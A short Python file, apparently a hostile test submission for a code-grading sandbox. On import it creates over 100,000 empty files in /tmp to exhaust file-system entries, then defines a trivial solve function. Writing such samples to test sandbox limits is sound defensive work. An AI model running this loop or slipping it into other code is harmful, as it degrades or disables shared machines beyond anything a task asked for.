"""Uses up the entries of the file system."""

import os

for number in range(10**6):
    os.close(os.open(f"/tmp/{number}", os.O_CREAT | os.O_WRONLY))
    if number > 10**5:
        break


def solve(x):
    return x * x
